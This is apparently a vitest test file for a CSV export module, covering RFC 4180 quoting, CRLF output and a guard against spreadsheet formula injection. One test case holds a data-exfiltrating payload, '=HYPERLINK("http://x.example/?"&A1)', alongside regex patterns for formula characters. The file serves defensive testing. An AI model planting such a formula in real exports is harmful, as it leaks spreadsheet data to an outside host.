import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvHead, csvRow } from '../../src/server/export/csv.js';

const column = (name: string, type: string) => ({ name, path: [name], type });
const columns = [column('text', 'String'), column('amount', 'Money'), column('code', 'SomeEnum')];

/** The cell of a text as a reader of CSV has it. */
function cellOf(text: string, type = 'String'): string {
  const one = [column('cell', type)];
  return (parse(csvHead(one) + csvRow(one, { cell: text }, []), { bom: true, record_delimiter: '\r\n' })[1] as string[])[0] as string;
}

const unguarded = (cell: string): string => (/^'+[=+\-@\t\r\n＝＋－＠]/u.test(cell) ? cell.slice(1) : cell);

/** Texts that are likely to go wrong. */
const texts = fc.oneof(
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', '\t', '\r', '\n', ' ', '1', 'a', '＝', '＠', '中', '\u2028', ';') }),
  fc.string({ unit: 'binary' }),
);

describe('a table', () => {
  it('is written as RFC 4180 has it, with a byte order mark and CRLF', () => {
    const rows = [
      { text: 'a,b', amount: '1.00', code: 'GOOD' },
      { text: 'say "x"\r\nthen', amount: '-3.50', code: null },
      { text: '', amount: null, code: null },
      { text: null, amount: null, code: null },
    ];
    expect(csvHead(columns) + rows.map((row) => csvRow(columns, row, row.code === null ? ['amount', 'code'] : [])).join('')).toBe(
      '\uFEFFtext,amount,code,extensions.hidden\r\n"a,b",1.00,GOOD,\r\n"say ""x""\r\nthen",-3.50,,amount code\r\n"",,,amount code\r\n,,,amount code\r\n',
    );
  });

  it('gives back any text, once its guard is off', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(unguarded(cellOf(text))).toBe(text);
      }),
    );
  });

  it('has no cell that a spreadsheet takes for a formula', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(cellOf(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
        // As it stands in the file: a quote is all that comes before the guard.
        expect(csvRow([column('cell', 'String')], { cell: text }, [])).not.toMatch(/^"?[=+\-@\t\r\n＝＋－＠](?!\n?,)/u);
      }),
    );
  });

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
    ['+86 373 123', "'+86 373 123"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['＝1', "'＝1"],
    ["'=1", "''=1"],
    ["'quoted'", "'quoted'"],
    ['5-3', '5-3'],
  ])('guards the text %j', (text, cell) => expect(cellOf(text)).toBe(cell));

  it.each([
    ['Money', '-14500000.01'],
    ['Decimal', '-0.5685'],
    ['Int', '-7'],
    ['Date', '2021-12-31'],
  ])('leaves a value of %s as it is', (type, text) => {
    expect(csvRow([column('cell', type)], { cell: type === 'Int' ? Number(text) : text }, [])).toBe(`${text},\r\n`);
  });

  it('takes a type that it does not know for a text', () => expect(cellOf('-1', 'Newly')).toBe("'-1"));

  it('writes a list of values as JSON', () => {
    expect(csvRow([column('scopes', 'list')], { scopes: ['CREDIT', '=1'] }, [])).toBe('"[""CREDIT"",""=1""]",\r\n');
  });
});
